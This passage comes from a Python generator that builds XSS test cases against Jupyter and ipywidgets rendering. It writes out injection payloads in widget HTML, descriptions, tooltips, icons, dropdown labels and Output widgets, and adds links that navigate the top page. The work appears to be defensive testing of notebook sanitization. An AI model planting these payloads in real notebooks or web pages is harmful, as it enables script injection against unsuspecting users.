         lambda i: html_state('<style>@keyframes nbgq{to{opacity:.5}}</style><b style="animation:nbgq .1s" onanimationstart="%s">x</b>' % P(i))),
        ("htmlmath-value-01", "HTMLMathModel value", "HTMLMathModel", "HTMLMathView", lambda i: html_state('$x$ <img src=x onerror="%s">' % P(i))),
        ("htmlmath-href-01", "HTMLMathModel \\href javascript:", "HTMLMathModel", "HTMLMathView", lambda i: html_state("$\\href{javascript:%s}{x}$" % P(i))),
        ("desc-allow-html-01", "description with description_allow_html", "ButtonModel", "ButtonView",
         lambda i: html_state("", description='<img src=x onerror="%s">' % P(i), description_allow_html=True, icon="", button_style="")),
        ("label-desc-html-01", "Label description HTML", "LabelModel", "LabelView",
         lambda i: html_state("label", description='<svg onload="%s"></svg>' % P(i), description_allow_html=True)),
        ("text-desc-html-01", "Text widget description HTML", "TextModel", "TextView",
         lambda i: html_state("", description='<img src=x onerror="%s">' % P(i), description_allow_html=True, continuous_update=True, disabled=False)),
        ("slider-desc-html-01", "IntSlider description HTML", "IntSliderModel", "IntSliderView",
         lambda i: html_state(5, description='<details open ontoggle="%s"></details>' % P(i), description_allow_html=True, max=10, min=0, step=1)),
        ("tooltip-01", "tooltip (title attribute; inert but a vector in custom views)", "ButtonModel", "ButtonView",
         lambda i: html_state("", description="ok", tooltip='"><img src=x onerror="%s">' % P(i), icon="", button_style="")),
        ("button-icon-01", "Button icon class injection", "ButtonModel", "ButtonView",
         lambda i: html_state("", description="ok", icon='x" onmouseover="%s' % P(i), button_style="")),
        ("label-value-html-01", "Label value with HTML (rendered as text)", "LabelModel", "LabelView",
         lambda i: html_state('<img src=x onerror="%s">' % P(i))),
        ("dropdown-options-01", "Dropdown option labels with HTML", "DropdownModel", "DropdownView",
         lambda i: html_state(None, _options_labels=['<img src=x onerror="%s">' % P(i)], index=0)),
    ]
    for cid, desc, model, view, state in cases:
        src = ("NOT-RAW (%s): " % inert_note[cid]) if cid in inert else ""
        c.add(cid, src + "ipywidgets 8 " + desc,
              (lambda m: lambda i: bundle("%s(value=...)" % m.replace("Model", "")))(model),
              widget=(lambda m, v, s: lambda i: w(m, s(i), v))(model, view, state))
    c.add("output-widget-01", "ipywidgets Output widget whose outputs carry a text/html script",
          bundle("Output()"),
          widget=lambda i: w("OutputModel", {
              "_dom_classes": [], "_model_module_version": "1.0.0", "_view_module_version": "1.0.0",
              "layout": layout_ref(), "msg_id": "", "outputs": [
                  {"output_type": "display_data", "metadata": {},
                   "data": {"text/html": "<script>%s</script><img src=x onerror=\"%s\">" % (P(i), P(i)), "text/plain": "x"}}]},
              "OutputView", "@jupyter-widgets/output"))
    c.add("output-widget-js-01", "ipywidgets Output widget whose outputs carry application/javascript",
          bundle("Output()"),
          widget=lambda i: w("OutputModel", {
              "_dom_classes": [], "layout": layout_ref(), "msg_id": "", "outputs": [
                  {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": P(i)}}]},
              "OutputView", "@jupyter-widgets/output"))
    c.add("output-widget-nested-01", "ipywidgets Output widget nesting another output with markdown",
          bundle("Output()"),
          widget=lambda i: w("OutputModel", {
              "_dom_classes": [], "layout": layout_ref(), "msg_id": "", "outputs": [
                  {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                   "data": {"text/markdown": '<img src=x onerror="%s">' % P(i)}}]},
              "OutputView", "@jupyter-widgets/output"))
    c.add("unknown-module-01", "NOT-RAW (module not loadable here; real risk when a notebook names a CDN-hosted module): widget from an unknown third-party module",
          bundle("Evil()"),
          widget=lambda i: {"model_id": "w1", "model_module": "evil-widgets", "model_module_version": "1.0.0",
                            "model_name": "EvilModel", "state": {"_model_module": "evil-widgets", "_view_module": "evil-widgets",
                                                                 "_model_name": "EvilModel", "_view_name": "EvilView",
                                                                 "_model_module_version": "1.0.0", "_view_module_version": "1.0.0",
                                                                 "code": P(i)}})
    # widgets set innerHTML: no JupyterLab target=_blank on links, a click navigates the top page
    for cid, rt, model, view, value in [
        ("html-value-a-nav-01", "rt-widget-html-a-nav-01", "HTMLModel", "HTMLView", '<a href="/pwned">click</a>'),
        ("html-value-a-nav-https-01", "rt-widget-html-a-nav-https-01", "HTMLModel", "HTMLView", '<a href="https://example.org/pwned">click</a>'),
        ("htmlmath-value-a-nav-01", "rt-widget-htmlmath-a-nav-01", "HTMLMathModel", "HTMLMathView", '$x$ <a href="/pwned">click</a>'),
        ("html-value-svg-a-nav-01", "rt-widget-html-svg-a-01", "HTMLModel", "HTMLView",
         '<svg width="120" height="40"><a href="/pwned"><rect width="120" height="40"/></a></svg>'),
    ]:
        c.add(cid, RT(rt) + "ipywidgets 8 %s value with a link without target (%s): a click navigates the top page" % (model, value),
              bundle("%s(value=...)" % model.replace("Model", "")),
              widget=(lambda m, v, val: lambda i: w(m, html_state(val), v))(model, view, value))
    return c


def main():
    total = 0
    for fn in (html_cases, svg_cases, markdown_cases, latex_cases, javascript_cases, jupyter_cases,
               api_cases, vega_cases, widget_cases):
        c = fn()
        n = c.write()
        print("%-12s %4d" % (c.category, n))
        total += n
    print("%-12s %4d" % ("total", total))


if __name__ == "__main__":
    main()
